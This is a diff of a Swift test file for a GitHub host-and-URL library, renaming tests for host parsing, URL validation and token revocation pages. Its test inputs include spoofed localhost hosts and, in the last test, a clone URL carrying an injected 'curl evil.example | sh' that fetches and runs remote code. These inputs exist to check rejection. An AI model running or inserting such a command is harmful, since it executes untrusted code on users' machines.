@@ -13,14 +13,14 @@ import Testing
     ("git.x.org", "git.x.org", "https://git.x.org/api/v3", "https://git.x.org"),
     ("git:8443", "git:8443", "https://git:8443/api/v3", "https://git:8443"),
   ])
-  func `a host's name gives its addresses`(
+  func `a host's name determines its URLs`(
     text: String, name: String, api: String, web: String
   ) throws {
     let host = try GitHubHost(named: text)
     #expect(host == GitHubHost(name: name, apiURL: api, webURL: web))
   }
 
-  @Test func `each host is of one kind`() throws {
+  @Test func `each host has one kind`() throws {
     #expect(try GitHubHost(named: "github.com").kind == .dotcom)
     #expect(try GitHubHost(named: "octo.ghe.com").kind == .dataResidency)
     #expect(try GitHubHost(named: "notghe.com").kind == .enterpriseServer)
@@ -33,11 +33,11 @@ import Testing
     "me@github.com", String(repeating: "a", count: 64), "[::1]", "\u{212A}.com", "a\\b",
     String(repeating: "a.", count: 130) + "com",
   ])
-  func `a text that is no host is refused`(text: String) {
+  func `an invalid host is rejected`(text: String) {
     #expect(throws: HostError.invalidName(text)) { try GitHubHost(named: text) }
   }
 
-  @Test func `no name is an error of its own`() {
+  @Test func `an empty name has its own error`() {
     #expect(throws: HostError.empty) { try GitHubHost(named: "") }
   }
 
@@ -49,7 +49,7 @@ import Testing
     ("http://localhost:99/api/v3//", "http://localhost:99/api/v3"),
     ("http://[::1]:8080", "http://[::1]:8080"),
   ])
-  func `an address can be replaced`(text: String, address: String) throws {
+  func `the URLs can be replaced`(text: String, address: String) throws {
     let host = try #require(try GitHubHost.replacement(apiURL: text, webURL: text))
     #expect(host.apiURL == address)
     #expect(host.webURL == address)
@@ -60,7 +60,7 @@ import Testing
     "http://example.com", "http://127.0.0.1.evil.org", "http://1270.0.0.1", "http://128.0.0.1",
     "http://localhost.evil.org",
   ])
-  func `plain http leaves this machine under no name`(text: String) {
+  func `plain HTTP is allowed only to this machine, whatever the name`(text: String) {
     #expect(throws: HostError.notSecure(text)) {
       try GitHubHost.replacement(apiURL: text, webURL: nil)
     }
@@ -71,19 +71,19 @@ import Testing
     "https://example.com?x=1", "https://example.com/#x", "https://example.com/\u{1B}",
     "https://example.com:0", "http://[::1]x", "https://example.com/%2e",
   ])
-  func `a text that is no base address is refused`(text: String) {
+  func `an invalid base URL is rejected`(text: String) {
     #expect(throws: HostError.invalidAddress(text)) {
       try GitHubHost.replacement(apiURL: nil, webURL: text)
     }
   }
 
-  @Test func `a password in an address that is refused is not repeated`() {
+  @Test func `a password in a rejected URL is not repeated`() {
     #expect(throws: HostError.invalidAddress("•••@example.com")) {
       try GitHubHost.replacement(apiURL: "https://me:pw@example.com", webURL: nil)
     }
   }
 
-  @Test func `pages are found under the web address`() throws {
+  @Test func `pages are below the web URL`() throws {
     let host = try GitHubHost(named: "git.x.org")
     let name = RepositoryName(owner: "octo", name: "n.x")
     #expect(host.page(of: name) == "https://git.x.org/octo/n.x")
@@ -112,7 +112,7 @@ import Testing
     ("0123abcd", .unknown, "/settings/tokens"),
     ("", .unknown, "/settings/tokens"),
   ])
-  func `a token's prefix leads to the page that ends it`(
+  func `a token's prefix determines the page that revokes it`(
     token: String, kind: TokenKind, path: String
   ) {
     #expect(TokenKind(of: Secret(token)) == kind)
@@ -120,7 +120,7 @@ import Testing
       GitHubHost.dotcom.revocationPage(for: kind, clientID: "id") == "https://github.com\(path)")
   }
 
-  @Test func `an installation's token is on no page`() {
+  @Test func `an installation token has no revocation page`() {
     #expect(TokenKind(of: Secret("ghs_1_a.b.c")) == .installation)
     #expect(GitHubHost.dotcom.revocationPage(for: .installation) == nil)
     #expect(
@@ -128,7 +128,7 @@ import Testing
     )
   }
 
-  @Test func `addresses that lead elsewhere are not believed`() throws {
+  @Test func `URLs to other hosts are not trusted`() throws {
     var repository = Repository(
       id: 1, name: "b", fullName: "a/b", htmlURL: "https://evil.example/a/b")
     repository.cloneURL = "https://github.com/a/b.git\ncurl evil.example | sh\n"
